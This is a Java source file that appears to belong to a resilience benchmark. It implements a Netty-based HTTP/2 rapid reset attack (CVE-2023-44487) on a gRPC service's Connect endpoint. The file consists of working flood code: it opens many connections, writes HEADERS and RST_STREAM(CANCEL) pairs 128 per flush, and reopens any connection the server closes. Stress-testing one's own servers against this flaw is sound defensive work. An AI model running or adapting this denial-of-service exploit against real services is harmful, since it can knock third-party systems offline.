package io.playline.bench.hostile;

import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.EventLoopGroup;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.DefaultHttp2HeadersEncoder;
import io.netty.handler.codec.http2.Http2Exception;
import io.netty.handler.codec.http2.Http2Headers;
import java.time.Duration;

/**
 * HTTP/2 rapid reset (CVE-2023-44487) on the player gRPC port: on each of K connections, HEADERS
 * opening {@code /playline.v1.Gateway/Connect} immediately followed by RST_STREAM(CANCEL), as fast
 * as the socket accepts them (written while the channel is writable, 128 pairs per flush). A closed
 * connection is reopened (the stream ids of one connection run out after 2^30 pairs, too). Counts
 * pairs sent, GOAWAYs and closes.
 */
final class RapidResetAttacker extends Attacker {
  private static final int PAIRS_PER_FLUSH = 128;
  private static final int MAX_STREAM_ID = Integer.MAX_VALUE - 2;

  RapidResetAttacker(AttackTarget target, EventLoopGroup group, boolean epoll, Duration length) {
    super(AttackKind.RAPID_RESET, target, group, epoll, length);
  }

  @Override
  void begin() {
    for (int i = 0; i < target.connections(); i++) {
      open(target.grpc(), "", true, Duration.ofMillis(50));
    }
  }

  @Override
  void init(Channel ch, String label) {
    ch.pipeline().addLast(new RawHttp2.Reader(stats, label), new Pump());
  }

  /** Writes the pairs. Confined to the channel's event loop. */
  private final class Pump extends FloodPump {
    private final DefaultHttp2HeadersEncoder hpack = new DefaultHttp2HeadersEncoder();
    private final Http2Headers headers = new DefaultHttp2Headers()
        .method("POST").scheme("http").path("/playline.v1.Gateway/Connect")
        .authority(target.grpc().getHostString() + ":" + target.grpc().getPort())
        .add("content-type", "application/grpc").add("te", "trailers");
    private int streamId = 1;

    Pump() {
      super(RapidResetAttacker.this, PAIRS_PER_FLUSH);
    }

    @Override
    void start(ChannelHandlerContext ctx) {
      ctx.write(RawHttp2.preface(ctx.alloc()), ctx.voidPromise());
    }

    @Override
    boolean writeOne(ChannelHandlerContext ctx) {
      if (streamId > MAX_STREAM_ID) {
        closeSelf(ctx.channel());
        return false;
      }
      ByteBuf b = ctx.alloc().buffer(64);
      b.writerIndex(9);
      try {
        hpack.encodeHeaders(streamId, headers, b);
      } catch (Http2Exception e) {
        b.release();
        throw new IllegalStateException("cannot encode the attack's headers", e);
      }
      b.setMedium(0, b.writerIndex() - 9);
      b.setByte(3, RawHttp2.HEADERS);
      b.setByte(4, RawHttp2.FLAG_END_HEADERS);
      b.setInt(5, streamId);
      RawHttp2.frameHeader(b, 4, RawHttp2.RST_STREAM, 0, streamId);
      b.writeInt(RawHttp2.CANCEL);
      ctx.write(b, ctx.voidPromise());
      streamId += 2;
      return true;
    }
  }
}
